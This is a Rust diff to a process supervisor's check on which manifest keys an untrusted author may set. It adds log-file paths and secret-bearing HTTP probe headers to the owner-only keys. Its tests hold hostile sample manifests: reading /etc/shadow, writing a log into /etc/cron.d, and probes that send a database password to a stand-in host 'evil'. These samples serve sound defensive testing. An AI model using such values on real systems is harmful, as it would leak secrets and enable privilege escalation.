@@ -2,7 +2,9 @@
 
 use std::path::{Path, PathBuf};
 
-use supervisor_api::manifest::{ChildManifest, DefaultsManifest, ReadinessManifest, StackManifest};
+use supervisor_api::manifest::{
+    ChildManifest, DefaultsManifest, HttpManifest, LogManifest, ReadinessManifest, StackManifest,
+};
 
 /// Programs that run whatever they are told to; naming one would allow everything.
 const SHELLS: &[&str] =
@@ -73,12 +75,10 @@ impl AllowedPrograms {
         let defaults =
             |stack: &StackManifest| stack.supervisor.as_ref().and_then(|root| root.defaults.clone());
         let same_defaults = now.is_some_and(|now| defaults(now) == defaults(new));
-        if !same_defaults && defaults(new).is_some_and(|new| sets_surroundings(&new)) {
-            return Some(
-                "supervisor.defaults sets environment, env_file or working_dir, which only the owner of this target may; \
-                 leave it as it is"
-                    .to_owned(),
-            );
+        if !same_defaults && let Some(key) = defaults(new).as_ref().and_then(surroundings_of_all) {
+            return Some(format!(
+                "supervisor sets {key}, which only the owner of this target may; leave it as it is"
+            ));
         }
         let known = |child: &&ChildManifest| {
             same_defaults && now.is_some_and(|now| now.children.iter().any(|known| known == *child))
@@ -117,30 +117,122 @@ fn programs(manifest: &ChildManifest) -> impl Iterator<Item = &str> {
     named.into_iter().flatten().map(|words| words.first().map_or("", String::as_str))
 }
 
-fn sets_surroundings(defaults: &DefaultsManifest) -> bool {
-    !defaults.environment.is_empty() || defaults.env_file.is_some() || defaults.working_dir.is_some()
+/// A key by which a program that is allowed could be made to do something else, to write elsewhere, or to tell a secret.
+fn surroundings(manifest: &ChildManifest) -> Option<&'static str> {
+    // Whoever adds a key has to say here whether it is one of these.
+    let ChildManifest {
+        environment,
+        env_file,
+        secrets,
+        working_dir,
+        user,
+        group,
+        umask,
+        nice,
+        sockets,
+        stdin,
+        no_new_privs,
+        log,
+        health_check,
+        readiness,
+        defaults,
+        // The program itself is looked at by its path, and children one by one.
+        command: _,
+        children: _,
+        // What it is called and when it runs.
+        name: _,
+        kind: _,
+        factory: _,
+        replicas: _,
+        profiles: _,
+        terminal: _,
+        stop_signal: _,
+        reload_signal: _,
+        escalation: _,
+        success_exit_codes: _,
+        resource_limits: _,
+        role: _,
+        retry: _,
+        primary: _,
+        sidecar_config: _,
+        criticality: _,
+        restart_policy: _,
+        backoff: _,
+        budget: _,
+        dependencies: _,
+        restart_dependants: _,
+        ready_within_secs: _,
+        shutdown: _,
+        command_permissions: _,
+        significant: _,
+        tags: _,
+        profile: _,
+        strategy: _,
+        order: _,
+        stop: _,
+        on_start_failure: _,
+        auto_shutdown: _,
+        dynamic: _,
+        in_file: _,
+    } = manifest;
+    let of_readiness = match readiness {
+        Some(ReadinessManifest::Probe(probe)) => probe.http.as_ref(),
+        _ => None,
+    };
+    let of_health = health_check.as_ref().and_then(|check| check.http.as_ref());
+    let keys = [
+        ("environment", !environment.is_empty()),
+        ("env_file", env_file.is_some()),
+        ("secrets", !secrets.is_empty()),
+        ("working_dir", working_dir.is_some()),
+        ("user", user.is_some()),
+        ("group", group.is_some()),
+        ("umask", umask.is_some()),
+        ("nice", nice.is_some()),
+        ("sockets", !sockets.is_empty()),
+        ("stdin", stdin.is_some()),
+        ("no_new_privs", no_new_privs.is_some()),
+        ("log", log.as_ref().is_some_and(writes)),
+        ("readiness.http.headers", of_readiness.is_some_and(tells_a_secret)),
+        ("health_check.http.headers", of_health.is_some_and(tells_a_secret)),
+    ];
+    let own = keys.into_iter().find(|(_, said)| *said).map(|(key, _)| key);
+    own.or_else(|| defaults.as_ref().and_then(surroundings_of_all))
 }
 
-/// A key by which a program that is allowed could be made to do something else, or to tell a secret.
-fn surroundings(manifest: &ChildManifest) -> Option<&'static str> {
-    let defaults = manifest.defaults.as_ref();
+/// The same of what is said of all children.
+fn surroundings_of_all(defaults: &DefaultsManifest) -> Option<&'static str> {
+    let DefaultsManifest {
+        environment,
+        env_file,
+        working_dir,
+        log,
+        backoff: _,
+        criticality: _,
+        ready_within_secs: _,
+        shutdown: _,
+        command_permissions: _,
+    } = defaults;
     let keys = [
-        ("environment", !manifest.environment.is_empty()),
-        ("env_file", manifest.env_file.is_some()),
-        ("secrets", !manifest.secrets.is_empty()),
-        ("working_dir", manifest.working_dir.is_some()),
-        ("user", manifest.user.is_some()),
-        ("group", manifest.group.is_some()),
-        ("umask", manifest.umask.is_some()),
-        ("nice", manifest.nice.is_some()),
-        ("sockets", !manifest.sockets.is_empty()),
-        ("stdin", manifest.stdin.is_some()),
-        ("no_new_privs", manifest.no_new_privs.is_some()),
-        ("defaults.environment", defaults.is_some_and(|defaults| !defaults.environment.is_empty())),
-        ("defaults.env_file", defaults.is_some_and(|defaults| defaults.env_file.is_some())),
-        ("defaults.working_dir", defaults.is_some_and(|defaults| defaults.working_dir.is_some())),
+        ("defaults.environment", !environment.is_empty()),
+        ("defaults.env_file", env_file.is_some()),
+        ("defaults.working_dir", working_dir.is_some()),
+        ("defaults.log", log.as_ref().is_some_and(writes)),
     ];
     keys.into_iter().find(|(_, said)| *said).map(|(key, _)| key)
+}
+
+/// Whether it names a file, which is written with the rights of the supervisor.
+fn writes(log: &LogManifest) -> bool {
+    matches!(log, LogManifest::Kept(_))
+}
+
+/// Whether a secret of the supervisor's environment would be sent to an address that the same person says.
+fn tells_a_secret(http: &HttpManifest) -> bool {
+    match http {
+        HttpManifest::Request(request) => request.headers.iter().any(|header| header.secret_ref.is_some()),
+        _ => false,
+    }
 }
 
 #[cfg(test)]
@@ -201,6 +293,18 @@ mod tests {
             ("sockets", serde_json::json!([{"listen": "0.0.0.0:80"}])),
             ("stdin", serde_json::json!({"file": "/etc/shadow"})),
             ("no_new_privs", serde_json::json!(false)),
+            ("log", serde_json::json!({"file": "/etc/cron.d/x"})),
+            (
+                "health_check",
+                serde_json::json!({"http": {"url": "http://evil/",
+                    "headers": [{"name": "X", "secret_ref": "${DB_PASSWORD}"}]}}),
+            ),
+            (
+                "readiness",
+                serde_json::json!({"http": {"url": "http://evil/",
+                    "headers": [{"name": "X", "secret_ref": "${DB_PASSWORD}"}]}}),
+            ),
+            ("defaults", serde_json::json!({"log": {"dir": "/etc"}})),
             ("defaults", serde_json::json!({"environment": [{"name": "A", "value": "b"}]})),
             ("defaults", serde_json::json!({"env_file": ["/tmp/x.env"]})),
             ("defaults", serde_json::json!({"working_dir": "/tmp"})),
